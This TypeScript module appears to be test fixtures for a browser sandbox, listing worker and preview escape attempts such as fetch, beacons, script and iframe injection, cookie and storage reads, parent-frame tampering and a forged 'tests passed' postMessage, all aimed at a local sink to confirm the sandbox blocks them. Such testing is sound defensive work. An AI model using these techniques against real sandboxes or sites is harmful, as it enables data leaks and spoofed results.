const nested = (script: string) =>
  `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(script)}])))`;

type Addresses = { site: string; sink: number };

/** Statements of a worker that each try to reach the network or what belongs to the site; each is run by itself. */
export const workerAttacks = ({ site, sink }: Addresses): string[] => {
  const outside = `http://127.0.0.1:${sink}/`;
  return [
    `await fetch("${outside}")`,
    `await fetch("${outside}", { mode: "no-cors", keepalive: true })`,
    `await fetch("${site}/api/category", { credentials: "include" })`,
    `const request = new XMLHttpRequest(); request.open("GET", "${outside}"); request.send()`,
    `const request = new XMLHttpRequest(); request.open("GET", "${site}/api/category", false); request.send()`,
    `new WebSocket("ws://127.0.0.1:${sink}")`,
    `new EventSource("${outside}")`,
    `const transport = new WebTransport("https://127.0.0.1:${sink}"); await Promise.all([transport.ready, transport.closed])`,
    `navigator.sendBeacon("${outside}")`,
    `await import("${outside}a.js")`,
    `await import("${site}/a.js")`,
    `await import("data:text/javascript,fetch('${outside}')")`,
    `importScripts("${outside}a.js")`,
    `importScripts("${site}/a.js")`,
    `new Worker("${outside}a.js")`,
    `new Worker("${site}/a.js")`,
    `new SharedWorker("${site}/a.js")`,
    nested(`fetch("${outside}")`),
    nested(`new FontFace("a", "url(${outside})").load()`),
    nested(`try { importScripts("${outside}a.js") } catch {}`),
    `new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${sink}" }] })`,
    `await eval("fetch('${outside}')")`,
    `await new FontFace("a", "url(${outside})").load()`,
    `await caches.open("a")`,
    `await navigator.storage.getDirectory()`,
    `await navigator.serviceWorker.register("${site}/a.js")`,
    `await cookieStore.getAll()`,
    `localStorage.length`,
    `document.cookie`,
    `await new Promise((resolve, reject) => Object.assign(indexedDB.open("a"), { onsuccess: resolve, onerror: reject }))`,
  ];
};

/** Statements of a preview, likewise. */
export const previewAttacks = ({ site, sink }: Addresses): string[] => {
  const outside = `http://127.0.0.1:${sink}/`;
  const insert = (html: string) => `document.body.insertAdjacentHTML("beforeend", \`${html}\`)`;
  const both = (attack: (address: string) => string) => [attack(outside), attack(`${site}/a`)];
  return [
    ...both((address) => `await fetch("${address}")`),
    ...both((address) => `await fetch("${address}", { mode: "no-cors", keepalive: true })`),
    ...both((address) => `navigator.sendBeacon("${address}")`),
    ...both((address) => `await import("${address}.js")`),
    ...both((address) => `new Image().src = "${address}"`),
    ...both((address) => insert(`<img src="${address}" srcset="${address}2 2x">`)),
    ...both((address) => insert(`<link rel="stylesheet" href="${address}">`)),
    ...both((address) => insert(`<link rel="prefetch" href="${address}">`)),
    ...both((address) => insert(`<link rel="preconnect" href="${address}">`)),
    ...both((address) => insert(`<link rel="dns-prefetch" href="${address}">`)),
    ...both((address) => insert(`<link rel="preload" as="fetch" href="${address}">`)),
    ...both((address) => insert(`<link rel="modulepreload" href="${address}">`)),
    ...both((address) => insert(`<link rel="prerender" href="${address}">`)),
    ...both((address) => insert(`<link rel="icon" href="${address}">`)),
    ...both((address) => insert(`<link rel="manifest" href="${address}">`)),
    ...both((address) =>
      insert(`<style>@import "${address}"; b { background: url(${address}3) }</style><b>b</b>`),
    ),
    ...both((address) => insert(`<video src="${address}" poster="${address}4"></video>`)),
    ...both((address) => insert(`<object data="${address}"></object><embed src="${address}5">`)),
    ...both((address) => insert(`<iframe src="${address}"></iframe>`)),
    ...both((address) =>
      insert(
        `<iframe srcdoc="<script src='${address}'></script><img src='${address}6'>"></iframe>`,
      ),
    ),
    ...both((address) => insert(`<svg><image href="${address}"/><use href="${address}#a"/></svg>`)),
    ...both(
      (address) =>
        insert(`<form method="post" action="${address}"><button id="b">b</button></form>`) +
        `; document.forms[0].submit(); document.getElementById("b").click()`,
    ),
    ...both(
      (address) =>
        insert(`<a id="a" ping="${address}" href="#">a</a>`) +
        `; document.getElementById("a").click()`,
    ),
    ...both(
      (address) =>
        insert(`<a id="c" href="${address}" target="_blank" rel="noopener">a</a>`) +
        `; document.getElementById("c").click()`,
    ),
    ...both(
      (address) =>
        insert(`<a id="d" href="${address}" download>a</a>`) +
        `; document.getElementById("d").click()`,
    ),
    ...both((address) => `window.open("${address}")`),
    ...both((address) => `top.location = "${address}"`),
    ...both((address) => `parent.location.href = "${address}"`),
    ...both(
      (address) =>
        `const s = document.createElement("script"); s.src = "${address}"; document.body.append(s)`,
    ),
    ...both(
      (address) =>
        `const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: [{ urls: ["${address}"] }] }); document.body.append(s)`,
    ),
    ...both((address) => `new Worker("${address}")`),
    `await new FontFace("a", "url(${outside})").load()`,
    nested(`new FontFace("a", "url(${outside})").load()`),
    insert(
      `<style>@font-face { font-family: a; src: url(${outside}) } i { font-family: a }</style><i>i</i>`,
    ),
    `new WebSocket("ws://127.0.0.1:${sink}")`,
    `new EventSource("${outside}")`,
    // A new frame has the browser's own dialogs.
    `const { contentWindow: own } = document.body.appendChild(document.createElement("iframe")); own.alert(1); own.confirm(1); own.prompt(1); own.print(); print()`,
    `parent.document.body.innerHTML = "taken"`,
    `parent.runner.close()`,
    `top.secret = 1`,
    `document.cookie = "a=1"`,
    `parent.postMessage({ kind: "result", id: 1, result: { kind: "finished", tests: [{ passed: true }] } }, "*")`,
  ];
};

/** Returns a program that tries each attack by itself, prints those that are not refused, and waits for their effects. */
export const tryEach = (attacks: string[], wait: number) => `
const attempts = [${attacks.map((attack) => `async () => { ${attack} }`).join(",\n")}];
await Promise.all(attempts.map((attempt) => Promise.race([
  (async () => attempt())().catch(() => {}),
  new Promise((resolve) => setTimeout(resolve, ${wait})),
])));
await new Promise((resolve) => setTimeout(resolve, ${wait}));
console.log("tried", attempts.length);`;

/** Components that run a script when they are mounted. */
export const components = {
  vue: (script: string, markup = "<p></p>") =>
    `<script setup>\n${inElement(script)}\n</script>\n<template>${markup}</template>`,
  svelte: (script: string, markup = "<p></p>") =>
    `<script>\n${inElement(script)}\n</script>\n${markup}`,
};

/** Returns a component in React that shows nothing, and a script beside it. */
export function componentWith(script: string): string {
  return `${script};\nexport default () => null;`;
}

/** Returns a page that runs a script. */
export function pageWith(script: string): string {
  return `<!doctype html>\n<body>\n<script>\n${inElement(script)}\n</script>`;
}

/** Returns a script that does not end its element. */
function inElement(script: string): string {
  return script.replaceAll("</script", String.raw`<\/script`);
}
